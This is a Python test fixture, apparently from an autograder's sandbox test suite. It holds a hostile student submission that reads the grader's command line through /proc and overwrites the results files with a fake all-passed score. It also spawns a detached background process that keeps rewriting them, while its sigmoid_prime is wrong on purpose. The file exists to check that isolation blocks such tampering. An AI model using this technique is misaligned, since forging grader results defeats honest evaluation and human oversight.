"""Attack: write the results file itself.

On import, and again in every call, it looks for the grader's results files: the
--deltaspec-json, --gradescope and --prairielearn paths on the command line of the
pytest process (through /proc/<pid>/cmdline) and Gradescope's well-known
/autograder/results/results.json; it writes a fake all-passed file to each, and leaves
a delayed writer behind (setsid, double fork) that rewrites them for up to 30 s, after
the grader has written the real ones.

Its sigmoid_prime is wrong (half the derivative). Isolated, /proc shows no pytest
process (and no command line), the file system outside the worker's home is
read-only, and the delayed writer dies with the worker's PID namespace: the results file
is the real one, even after a pause. Control: with --deltaspec-no-isolate the delayed writer
(then a child of pytest itself) overwrites the real file once the run is over.
"""
import json
import os
import time

import numpy as np

EXPECT_STATUS = 1
NEEDS_SANDBOX = True
EXPECT_REASON = "differ from the spec"
MUST_FAIL = ["derivative sigmoid_prime"]
LINGERS = True
CONTROL = "no-isolate"
CONTROL_EXPECT = "fake-results"
ME = os.path.realpath(__file__)
FAKE = {"implementation": "HOSTILE-FAKE", "provided": ["derivative sigmoid_prime"],
        "records": [{"test": "all", "capability": "derivative sigmoid_prime", "outcome": "passed",
                     "diagnosis": None, "message": "HOSTILE-FAKE"}],
        "score": 1000000, "tests": [], "output": "HOSTILE-FAKE", "gradable": True}


def _judging_me(pid):
    """pid's command line if it names this very file (relative to its working directory),
    else None: the module never touches another run on the same machine."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            argv = fh.read().decode(errors="replace").split("\0")
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None
    for arg in argv:
        arg = arg.split("=", 1)[-1]
        if arg.endswith(os.path.basename(ME)) and os.path.realpath(os.path.join(cwd, arg)) == ME:
            return argv
    return None


def _results_paths():
    """Results paths on the command line of the pytest run that judges this file only
    (the module stays away from other runs on the same machine)."""
    found = ["/autograder/results/results.json"]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        argv = _judging_me(entry)
        if argv is None:
            continue
        for i, arg in enumerate(argv):
            for flag in ("--deltaspec-json", "--deltaspec-gradescope", "--deltaspec-prairielearn"):
                if arg == flag and i + 1 < len(argv):
                    found.append(argv[i + 1])
                elif arg.startswith(flag + "="):
                    found.append(arg.split("=", 1)[1])
    return found


def _write_fakes():
    for path in _results_paths():
        try:
            with open(path, "w") as fh:
                json.dump(FAKE, fh)
        except OSError:
            pass


def _delayed_writer():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                paths = _results_paths()
                deadline = time.time() + 30
                while time.time() < deadline:
                    for path in paths:
                        try:
                            with open(path, "w") as fh:
                                json.dump(FAKE, fh)
                        except OSError:
                            pass
                    time.sleep(0.2)
            finally:
                os._exit(0)
    finally:
        os._exit(0)


_write_fakes()
_delayed_writer()


def sigmoid(z):
    _write_fakes()
    z = np.asarray(z)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_prime(z):
    _write_fakes()
    s = sigmoid(z)
    return 0.5 * s * (1 - s)  # WRONG: half the derivative
